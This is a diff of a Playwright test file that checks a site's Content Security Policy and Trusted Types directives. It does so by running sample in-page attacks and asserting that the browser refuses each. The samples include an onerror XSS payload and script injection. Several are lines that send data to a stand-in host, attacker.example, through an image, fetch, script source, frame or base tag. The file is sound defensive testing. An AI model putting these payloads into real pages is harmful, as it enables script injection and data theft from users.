@@ -2,101 +2,61 @@ import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { expect, type Page, test } from "playwright/test";
 
-/** Attacks from within a page. The browser must refuse each. */
-const attacks: { name: string; directive: string; path?: string; attack: () => void }[] = [
-  {
-    name: "a script in the page",
-    directive: "require-trusted-types-for",
-    attack: () => {
+/** Attacks from within a page, by the directive that must refuse each. */
+const attacks: Record<string, Record<string, () => void>> = {
+  "require-trusted-types-for": {
+    "a script in the page": () => {
       const script = document.createElement("script");
       script.append("document.title = 'taken'");
       document.body.append(script);
     },
-  },
-  {
-    name: "a script from another host",
-    directive: "require-trusted-types-for",
-    attack: () => {
+    "a script from another host": () => {
       document.createElement("script").src = "https://attacker.example/a.js";
     },
-  },
-  {
-    name: "markup made of text",
-    directive: "require-trusted-types-for",
-    attack: () => {
+    "markup made of text": () => {
       document.body.innerHTML = "<img src=x onerror=\"document.title='taken'\">";
     },
+    "a handler in an attribute": () =>
+      document.body.setAttribute("onclick", "document.title = 'taken'"),
+    "code made of text": () => globalThis.setTimeout("document.title = 'taken'"),
   },
-  {
-    name: "a handler in an attribute",
-    directive: "require-trusted-types-for",
-    attack: () => document.body.setAttribute("onclick", "document.title = 'taken'"),
+  "trusted-types": {
+    "a policy of its own for trusted text": () =>
+      void globalThis.trustedTypes?.createPolicy("attacker", { createScriptURL: (url) => url }),
   },
-  {
-    name: "code made of text",
-    directive: "require-trusted-types-for",
-    attack: () => globalThis.setTimeout("document.title = 'taken'"),
-  },
-  {
-    name: "a policy of its own for trusted text",
-    directive: "trusted-types",
-    attack: () =>
-      void globalThis.trustedTypes?.createPolicy("attacker", {
-        createScriptURL: (address) => address,
-      }),
-  },
-  {
-    name: "styles in the page",
-    directive: "style-src-elem",
-    attack: () => {
+  "style-src-elem": {
+    "styles in the page": () => {
       const style = document.createElement("style");
       style.append("body { display: none }");
       document.head.append(style);
     },
   },
-  {
-    name: "styles in an attribute",
-    directive: "style-src-attr",
-    attack: () => document.body.setAttribute("style", "display: none"),
+  "style-src-attr": {
+    "styles in an attribute": () => document.body.setAttribute("style", "display: none"),
   },
-  {
-    name: "a picture that carries data out",
-    directive: "img-src",
-    attack: () => {
+  "img-src": {
+    "a picture that carries data out": () => {
       new Image().src = "https://attacker.example/?secret";
     },
   },
-  {
-    name: "a request that carries data out",
-    directive: "connect-src",
-    attack: () => void fetch("https://attacker.example/").catch(() => undefined),
+  "connect-src": {
+    "a request that carries data out": () =>
+      void fetch("https://attacker.example/").catch(() => undefined),
   },
-  {
-    name: "a frame of another host",
-    directive: "frame-src",
-    attack: () =>
-      document.body.append(
-        Object.assign(document.createElement("iframe"), { src: "https://attacker.example/" }),
-      ),
+  "frame-src": {
+    // The map is on other pages.
+    "a frame of the map's host": () => {
+      const src = "https://maps.harbor-lights.internal/";
+      document.body.append(Object.assign(document.createElement("iframe"), { src }));
+    },
   },
-  {
-    name: "the map's host on a page without the map",
-    directive: "frame-src",
-    path: "/about",
-    attack: () =>
-      document.body.append(
-        Object.assign(document.createElement("iframe"), { src: "https://www.google.com/maps" }),
-      ),
+  "base-uri": {
+    "another base for links": () => {
+      const href = "https://attacker.example/";
+      document.head.append(Object.assign(document.createElement("base"), { href }));
+    },
   },
-  {
-    name: "another base for links",
-    directive: "base-uri",
-    attack: () =>
-      document.head.append(
-        Object.assign(document.createElement("base"), { href: "https://attacker.example/" }),
-      ),
-  },
-];
+};
 
 /** The directives that refused something on the page since it was opened. */
 async function refusedBy(page: Page, attack: () => void): Promise<string[]> {
@@ -114,26 +74,25 @@ async function refusedBy(page: Page, attack: () => void): Promise<string[]> {
   return read();
 }
 
-test.use({ baseURL: process.env["SITE_ADDRESS"] });
+const site = () => process.env["SITE_ADDRESS"] ?? "";
 
-for (const { name, directive, path = "/", attack } of attacks) {
-  test(`${name} is refused`, { tag: "@long" }, async ({ page }) => {
-    await page.route(
-      (url) => !url.href.startsWith(process.env["SITE_ADDRESS"] ?? ""),
-      (route) => route.abort(),
-    );
-    await page.goto(path);
-    const title = await page.title();
-    expect(await refusedBy(page, attack)).toEqual([`${directive} enforce`]);
-    expect(await page.title()).toBe(title);
-    await expect(page.getByRole("main")).toBeVisible();
-  });
-}
+for (const [directive, ways] of Object.entries(attacks))
+  for (const [name, attack] of Object.entries(ways))
+    test(`${name} is refused`, { tag: "@long" }, async ({ page }) => {
+      await page.route(
+        (url) => !url.href.startsWith(site()),
+        (route) => route.abort(),
+      );
+      await page.goto(`${site()}/about`);
+      const title = await page.title();
+      expect(await refusedBy(page, attack)).toEqual([`${directive} enforce`]);
+      expect(await page.title()).toBe(title);
+      await expect(page.getByRole("main")).toBeVisible();
+    });
 
 test("no page can be framed, not even the 404 page", { tag: "@long" }, async ({ page }) => {
-  const site = process.env["SITE_ADDRESS"] ?? "";
   const frames = ["/", "/about", "/no-such-page"]
-    .map((path) => `<iframe src="${site}${path}"></iframe>`)
+    .map((path) => `<iframe src="${site()}${path}"></iframe>`)
     .join("");
   const other = createServer((_, response) =>
     response.setHeader("Content-Type", "text/html").end(frames),
